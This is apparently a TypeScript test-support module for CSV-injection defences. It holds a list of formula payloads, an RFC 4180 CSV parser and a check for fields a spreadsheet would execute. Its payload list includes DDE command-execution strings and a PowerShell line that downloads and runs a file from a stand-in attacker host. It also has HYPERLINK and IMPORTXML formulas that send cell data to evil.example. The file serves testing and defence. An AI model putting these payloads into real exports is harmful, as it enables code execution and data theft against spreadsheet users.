/**
 * CSV injection (docs/decisions/068-one-csv-writer.md): the known payloads every export is tried with, a reader of
 * the CSV the exports write (RFC 4180: quoted fields, doubled quotes, CRLF or LF), and the spreadsheet's view of a
 * cell — written here from OWASP's list, not imported from lib/platform/csv.ts, so a change of the writer's rule cannot also
 * change what the tests accept.
 */

/** Text a stranger, a customer or a staff member can type, each a formula or a disguised one. */
export const FORMULA_PAYLOADS: readonly string[] = [
  // The red team's bypass: starts like a number, runs cmd through DDE.
  "-1+cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C powershell IEX(wget attacker.example/s.exe)'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Open the receipt")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '-500.00+A1',
  '-1e3',
  '   =1+1',
  '\u00a0=1+1', // a no-break space first
  '\u3000=1+1', // an ideographic space first
  '\u200b=1+1', // a zero-width space first
  '\uff1d1+1', // a full-width equals sign
  '\uff0b1+1', // a full-width plus sign
  '\u22121+1', // the minus sign U+2212
  '\t=1+1',
  '\r=1+1',
  '\tTab first',
  '\rCarriage return first',
];

/** Text that is not a formula and must come out as it went in (quoted where RFC 4180 needs it). */
export const HARMLESS_TEXT: readonly string[] = ['Ngozi Okafor', 'Okafor, Ngozi', 'Ngozi "Mama" Okafor', 'Two\nlines', '2026-12-04T10:00:00.000Z', "'=already text", '1+1'];

/** Plain numbers: a spreadsheet must still read them as numbers, so they are written bare. */
export const PLAIN_NUMBERS: readonly string[] = ['-500.00', '0', '1234.5', '0.00', '-0.01', '250000', '42'];

/** The rows of a CSV document, each a list of its fields unquoted (LF or CRLF line endings, as the exports write). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += c === '\r' ? 2 : 1;
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error('CSV: a quoted field is not closed');
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

/**
 * Whether a spreadsheet would run a field (unquoted) as a formula: OWASP's first characters `= + - @`, tab and CR,
 * also after leading blanks and as their full-width lookalikes — unless the whole field is a plain number or a lone
 * sign. A field starting with `'` is text.
 */
export function spreadsheetRuns(field: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(field) || field === '+' || field === '-') return false;
  if (field.startsWith('\t') || field.startsWith('\r')) return true;
  const first = field.replace(/^[\s\u200b-\u200f\u2060\ufeff\u0000-\u001f]+/, '')[0];
  return first !== undefined && '=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212'.includes(first);
}

/** Every field of a CSV document a spreadsheet would run, with its row and column (none, for a safe export). */
export function formulaFields(text: string): { row: number; column: number; field: string }[] {
  return parseCsv(text).flatMap((fields, row) => fields.flatMap((field, column) => (spreadsheetRuns(field) ? [{ row, column, field }] : [])));
}

/** Whether the export wrote `value` neutralised: some field is exactly `'` + value. */
export const neutralisedIn = (text: string, value: string) => parseCsv(text).some((fields) => fields.includes(`'${value}`));
